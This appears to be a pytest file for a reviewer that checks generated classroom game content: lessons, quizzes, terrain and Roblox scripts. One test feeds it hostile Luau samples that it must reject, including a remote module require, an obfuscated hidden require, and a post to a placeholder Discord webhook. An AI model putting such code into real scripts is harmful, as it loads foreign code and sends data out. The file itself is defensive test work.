"""The review approves what is right, refuses what isn't, and says why and what to do otherwise."""

import sys
from subprocess import run
from typing import Any

import pytest

from tests.agents.making.review import shared
from tests.agents.making.review.shared import (
    LIBRARY,
    codes,
    good,
    plan,
    quiz,
    reviewed,
    terrain,
    with_first,
    with_script,
)
from toolbox_cli.agents.making.environment import make_environment
from toolbox_cli.agents.making.records import Request, digest
from toolbox_cli.agents.making.review.judgement import PARTS, Part
from toolbox_cli.agents.making.review.whole import review


@pytest.mark.parametrize("objective", sorted(LIBRARY.objectives)[::12])
def test_what_the_generators_make_is_approved(objective: str) -> None:
    environment = make_environment(Request(objective=objective, duration_minutes=30, seed=5), LIBRARY)
    found = review(environment, LIBRARY)
    assert found.approved, found.reasons
    assert found.content_sha256 == digest(environment)
    assert not found.refused
    assert {part: found.parts[part].quality for part in PARTS} == dict.fromkeys(PARTS, 1.0)


_UNDER_WATER = ((0,) * 96,) * 96
_SPOILED: list[tuple[Part, str, dict[str, Any]]] = [
    ("lesson", "not-asked-for", {"plan": plan(grade=9)}),
    ("lesson", "not-asked-for", {"plan": plan(environment="volcano-of-nowhere")}),
    ("lesson", "no-place", {"plan": plan(environment="volcano-of-nowhere")}),
    ("lesson", "no-objective", {"plan": plan(objectives=("math-5-nothing",))}),
    ("lesson", "other-subject", {"plan": plan(subject="Science")}),
    ("lesson", "minutes", {"plan": plan(activities=good().plan.activities[:-1])}),
    ("lesson", "accessibility", {"plan": plan(accessibility=good().plan.accessibility[:1])}),
    ("lesson", "link", {"plan": plan(summary="Look at www.example.org for more.")}),
    ("lesson", "off-platform", {"plan": plan(support="Ask for help on Discord.")}),
    ("lesson", "about-self", {"plan": plan(reflection=("Write down your full name and where you live.",))}),
    ("lesson", "unfinished", {"plan": plan(summary="You learn to {goal}.")}),
    ("lesson", "too-hard", {"plan": plan(summary="Notwithstanding considerable organisational complications, " * 12)}),
    ("quiz", "wrong-sum", {"quiz": with_first(worked="Together they are 3/4 + 1/4 = 2.")}),
    ("quiz", "questions", {"quiz": quiz(questions=good().quiz.questions[1:])}),
    ("quiz", "other-lesson", {"quiz": quiz(grade=7)}),
    ("quiz", "handle", {"quiz": with_first(hint="Write to @mathhelper for the answer.")}),
    ("terrain", "not-reached", {"terrain": terrain(heights=_UNDER_WATER)}),
    ("terrain", "outside", {"terrain": terrain(spawn=(-1, 4))}),
    ("terrain", "checkpoints", {"terrain": terrain(checkpoints=good().terrain.checkpoints[1:])}),
    ("terrain", "height", {"terrain": terrain(heights=((600,) * 96,) * 96)}),
    ("terrain", "no-builder", {"terrain": terrain(script="")}),
    ("scripts", "unreadable", {"scripts": with_script("--!strict\nlocal function broken( end")}),
    ("scripts", "L007", {"scripts": with_script("--!strict\nlocal function broken( end")}),
    ("scripts", "same-name", {"scripts": (*good().scripts, good().scripts[0])}),
    ("scripts", "no-gates", {"scripts": good().scripts[:1]}),
    ("scripts", "no-template", {"scripts": (good().scripts[0].model_copy(update={"template": "own-work"}),
                                            *good().scripts[1:])}),
]  # fmt: skip


@pytest.mark.parametrize(("part", "code", "spoiled"), _SPOILED, ids=[f"{part}-{code}" for part, code, _ in _SPOILED])
def test_what_is_wrong_is_refused_with_its_reason(part: Part, code: str, spoiled: dict[str, Any]) -> None:
    found = reviewed(**spoiled)
    assert code in codes(found, part)
    assert part in found.refused
    assert not found.approved
    assert found.quality < 1
    assert all(one.remedy for one in found.reasons)


@pytest.mark.parametrize(
    "source",
    [
        "--!strict\nrequire(5754612086)",
        '--!strict\nlocal r = getfenv()[string.reverse("eriuqer")]\nr(12345678)',
        '--!strict\ngame:GetService("HttpService"):PostAsync("https://discord.com/api/webhooks/1/x", "a")',
        "--!strict\nlocal say = game.ReplicatedStorage.Say :: RemoteEvent\n"
        "say.OnServerEvent:Connect(function(_, text)\n"
        "\tworkspace.Sign.SurfaceGui.TextLabel.Text = text\nend)",
    ],
    ids=["foreign-module", "hidden-require", "webhook", "unfiltered-text"],
)
def test_scripts_that_the_scan_denies_or_doubts_are_not_approved(source: str) -> None:
    assert "scripts" in reviewed(scripts=with_script(source)).refused


def test_a_denied_builder_refuses_the_land() -> None:
    found = reviewed(terrain=terrain(script="--!strict\nrequire(5754612086)"))
    assert found.refused == ("terrain",)


def test_each_question_with_a_wrong_key_is_found() -> None:
    for number, question in enumerate(good().quiz.questions):
        if question.options:
            questions = list(good().quiz.questions)
            questions[number] = shared.swapped(question)
            found = reviewed(quiz=quiz(questions=tuple(questions)))
            wrong = {one.place for one in found.parts["quiz"].reasons if one.code == "wrong-key"}
            assert wrong == {question.key}
            assert found.refused == ("quiz",)


def test_a_key_that_nobody_can_find_out_lowers_confidence_alone() -> None:
    questions = tuple(
        one.model_copy(update={"data": {"kind": "told"}, "worked": "It is known."}) for one in good().quiz.questions
    )
    found = reviewed(quiz=quiz(questions=questions)).parts["quiz"]
    assert (found.quality, found.confidence, found.approved) == (1.0, 0.5, False)
    assert not found.reasons


def test_the_templates_thresholds_of_the_installation_decide() -> None:
    spoiled = {"quiz": with_first(hint=good().quiz.questions[0].worked)}
    environment = good().model_copy(update=spoiled)
    assert review(environment, LIBRARY).approved
    strict = {"lesson-gates": {"quality": 0.95, "confidence": 0.75}}
    found = review(environment, LIBRARY, strict)
    assert found.refused == ("quiz",)
    assert found.parts["quiz"].thresholds.quality == 0.95


def test_the_review_imports_nothing_of_what_makes() -> None:
    code = (
        "import toolbox_cli.agents.making.review.whole, sys;"
        "print([m for m in sys.modules if m.startswith('toolbox_cli.agents.making.') and m.split('.')[3] in"
        " {'lesson', 'quiz', 'terrain', 'script', 'understanding', 'environment'}])"
    )
    assert run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.strip() == "[]"
